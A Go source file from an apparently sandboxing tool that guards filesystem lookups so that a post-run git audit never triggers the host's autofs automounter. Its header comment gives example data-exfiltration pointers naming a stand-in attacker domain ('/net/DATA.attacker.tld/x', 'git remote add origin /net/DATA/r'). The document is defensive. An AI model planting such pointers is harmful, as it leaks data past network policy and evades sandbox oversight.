package gitguard

import (
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
)

// ---- autofs -------------------------------------------------------------
//
// A lookup of a name directly below an autofs mount that nothing is
// mounted on (an indirect map's directory, /net; a direct mount's own
// root, entered) makes the kernel ask the host's automounter, a root
// daemon, for that name: a -hosts map resolves it in DNS and sends RPC to
// it, a program map runs as root with it. The sandbox hides such mounts
// (linux.autofsRules), but the audit runs outside it, as the user (as
// root for root's runs), and followed what the command left: a
// sub/.git -> /net/DATA.attacker.tld/x, a .git file or commondir naming
// /net/DATA/x, a remote's URL there (git remote add origin /net/DATA/r),
// an include, a hooks path. Each had the audit ask the automounter for
// DATA, past the run's network policy (found by attack pass 56; proved by
// TestAuditAutofsNotAsked and privileged-tests'
// TestAutomountNotTriggeredByAudit). Every lookup of a path the command
// may have chosen goes through the functions below, which stop before a
// lookup that would ask (errAutofs, taken for "not there"); walkWay ends
// there too. A pointer the run made that leads there is taken out
// (viaDotGit, repo's commondir, autofsURL).

// autofsTable is what autofsMounts read of the mount table.
type autofsTable struct {
	uncovered map[string]bool // autofs mount points nothing is mounted on
	mounted   map[string]bool // every mount point
}

// errAutofs is what a lookup that would ask the automounter returns
// instead: not there, for the audit.
var errAutofs = fmt.Errorf("below an autofs mount nothing is mounted on (a lookup would ask the host's automounter for the name): %w", fs.ErrNotExist)

// asks reports whether looking up name in the directory dir (a path with
// no symlink in it) asks the automounter: dir is an autofs mount nothing
// covers and nothing is mounted at dir/name (a share the automounter
// mounted there is found without a request).
func (t *autofsTable) asks(dir, name string) bool {
	return t != nil && t.uncovered[dir] && !t.mounted[filepath.Join(dir, name)]
}

// autofsOnWay reports whether resolving p as the kernel does (as walkWay:
// each ".." applying to the directory reached, a symlink's text put in its
// place) looks up a name below an autofs mount nothing covers; with
// follow, a symlink at the end is followed too, and p leading to such a
// mount counts (opening or listing a direct mount's root asks). It looks
// at nothing when the mount table holds no such mount.
func autofsOnWay(p string, follow bool) bool {
	t := autofsMounts()
	if t == nil || p == "" {
		return false
	}
	if !filepath.IsAbs(p) {
		wd, err := os.Getwd()
		if err != nil {
			return true
		}
		p = wd + "/" + p
	}
	todo := strings.Split(strings.TrimPrefix(p, "/"), "/")
	d := "/"
	for n := 0; len(todo) > 0; {
		c := todo[0]
		todo = todo[1:]
		switch c {
		case "", ".":
			continue
		case "..":
			d = filepath.Dir(d)
			continue
		}
		if t.asks(d, c) {
			return true
		}
		next := filepath.Join(d, c)
		fi, err := os.Lstat(next)
		if err != nil {
			return false // the kernel's lookup ends here too
		}
		if fi.Mode()&fs.ModeSymlink == 0 || len(todo) == 0 && !follow {
			d = next
			continue
		}
		if n++; n > 40 {
			return false // ELOOP
		}
		tgt, err := os.Readlink(next)
		if err != nil {
			return false
		}
		if filepath.IsAbs(tgt) {
			d = "/"
		}
		todo = append(strings.Split(tgt, "/"), todo...)
	}
	return follow && t.uncovered[d]
}

// lstat is os.Lstat, not below an autofs mount nothing covers.
func lstat(p string) (fs.FileInfo, error) {
	if autofsOnWay(p, false) {
		return nil, &fs.PathError{Op: "lstat", Path: p, Err: errAutofs}
	}
	return os.Lstat(p)
}

// BirthNS is when the inode at p (not followed) was made, where the
// filesystem keeps it, looked up as it is (no autofs check: for a path its
// caller has just looked up itself). runtime's record of hidden files
// compares it: a file made in place of another can get the old one's inode
// number (ext4 hands a freed number out again at once), not its birth.
func BirthNS(p string) (int64, bool) { return birthNS(p) }

// birthTime is when the inode at p (not followed) was made, where the
// filesystem says, not below an autofs mount nothing covers.
func birthTime(p string) (int64, bool) {
	if autofsOnWay(p, false) {
		return 0, false
	}
	return birthNS(p)
}

// stat is os.Stat, not below an autofs mount nothing covers.
func stat(p string) (fs.FileInfo, error) {
	if autofsOnWay(p, true) {
		return nil, &fs.PathError{Op: "stat", Path: p, Err: errAutofs}
	}
	return os.Stat(p)
}

// readDir is os.ReadDir, not below an autofs mount nothing covers.
func readDir(p string) ([]fs.DirEntry, error) {
	if autofsOnWay(p, true) {
		return nil, &fs.PathError{Op: "open", Path: p, Err: errAutofs}
	}
	return os.ReadDir(p)
}

// readlink is os.Readlink, not below an autofs mount nothing covers.
func readlink(p string) (string, error) {
	if autofsOnWay(p, false) {
		return "", &fs.PathError{Op: "readlink", Path: p, Err: errAutofs}
	}
	return os.Readlink(p)
}

// evalSymlinks is filepath.EvalSymlinks, not below an autofs mount
// nothing covers.
func evalSymlinks(p string) (string, error) {
	if autofsOnWay(p, true) {
		return "", &fs.PathError{Op: "lstat", Path: p, Err: errAutofs}
	}
	return filepath.EvalSymlinks(p)
}

// Automounter reports whether this host has an autofs mount that nothing
// covers and that asks an automounter (not systemd's): lookups below it,
// where a path may lead, are checked one component at a time, and moat's
// parallel look-ahead (the planner's prestamp, the audit's prestat) is
// skipped.
func Automounter() bool { return autofsMounts() != nil }

// AutofsOnWay is autofsOnWay, for moat's planner: it reads the .git
// files, commondirs and configs a command left too, before the next run
// (linux.readGitPointer, readGitFacts).
func AutofsOnWay(p string, follow bool) bool { return autofsOnWay(p, follow) }
